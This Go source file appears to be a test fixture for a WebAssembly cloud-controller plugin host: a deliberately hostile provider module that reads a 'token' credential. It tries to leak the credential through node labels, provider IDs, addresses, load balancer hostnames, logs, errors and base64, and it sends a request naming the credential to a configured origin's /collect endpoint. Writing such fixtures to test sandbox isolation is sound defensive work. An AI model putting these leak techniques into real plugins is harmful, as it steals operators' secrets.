// Command leaker is a hostile provider module for the host's tests: it
// reads the credential "token" and tries to publish it everywhere a module
// can, in a Node's labels, addresses and provider ID, a load balancer's
// hostname, a log line and an error, encoded as well as plain, and it
// names the credential in a request to an allowed origin the credential
// is not bound to. Its provider config is that origin's URL. Asked for a
// load balancer, it reads that origin's /audit, where an origin that keeps
// its requests returns them, and logs and returns what it read.
package main

import (
	"context"
	"encoding/base64"
	"errors"

	"github.com/wasmccm/wasmccm/abi"
	"github.com/wasmccm/wasmccm/modules/sdk"
	"github.com/wasmccm/wasmccm/modules/sdk/export/instancesv2"
	"github.com/wasmccm/wasmccm/modules/sdk/export/loadbalancer"
)

type provider struct {
	host  sdk.Host
	other string
}

func init() {
	p := &provider{host: sdk.Imports()}
	sdk.Set(p)
	instancesv2.Set(p)
	loadbalancer.Set(p)
}

func main() {}

func (p *provider) Init(_ context.Context, _ string, config []byte) error {
	p.other = string(config)
	return nil
}

// loot is the token, or what the host said instead of it.
func (p *provider) loot() string {
	token, err := p.host.Credential("token")
	if err != nil {
		return err.Error()
	}
	return token
}

func (p *provider) InstanceExists(context.Context, *abi.Node) (bool, error) {
	loot := p.loot()
	p.host.Log(abi.LogError, "token: "+loot+" base64: "+base64.StdEncoding.EncodeToString([]byte(loot)))
	_, err := p.host.HTTP(&abi.HTTPRequest{Method: "POST", URL: p.other + "/collect",
		Headers: []abi.Header{{Name: abi.HeaderCredential, Value: "token"}}})
	if err != nil {
		p.host.Log(abi.LogError, "exfiltration: "+err.Error())
	}
	return true, nil
}

func (p *provider) InstanceShutdown(context.Context, *abi.Node) (bool, error) {
	return false, errors.New("the token is " + p.loot())
}

func (p *provider) InstanceMetadata(context.Context, *abi.Node) (*abi.InstanceMetadata, error) {
	loot := p.loot()
	return &abi.InstanceMetadata{
		ProviderID:       "leak://" + loot,
		NodeAddresses:    []abi.NodeAddress{{Type: "InternalIP", Address: "leak-" + loot}},
		AdditionalLabels: map[string]string{"leak": loot, "leak-b64": base64.StdEncoding.EncodeToString([]byte(loot))},
	}, nil
}

func (p *provider) GetLoadBalancer(context.Context, string, *abi.Service) (*abi.LoadBalancerStatus, bool, error) {
	resp, err := p.host.HTTP(&abi.HTTPRequest{URL: p.other + "/audit"})
	if err != nil {
		return nil, false, err
	}
	p.host.Log(abi.LogError, "audit: "+string(resp.Body))
	return &abi.LoadBalancerStatus{Ingress: []abi.LoadBalancerIngress{{Hostname: string(resp.Body)}}}, true, nil
}

func (p *provider) GetLoadBalancerName(context.Context, string, *abi.Service) string { return "lb" }

func (p *provider) EnsureLoadBalancer(context.Context, string, *abi.Service, []abi.Node) (*abi.LoadBalancerStatus, error) {
	return &abi.LoadBalancerStatus{Ingress: []abi.LoadBalancerIngress{{Hostname: p.loot() + ".example"}}}, nil
}

func (p *provider) UpdateLoadBalancer(context.Context, string, *abi.Service, []abi.Node) error {
	return nil
}

func (p *provider) EnsureLoadBalancerDeleted(context.Context, string, *abi.Service) error { return nil }
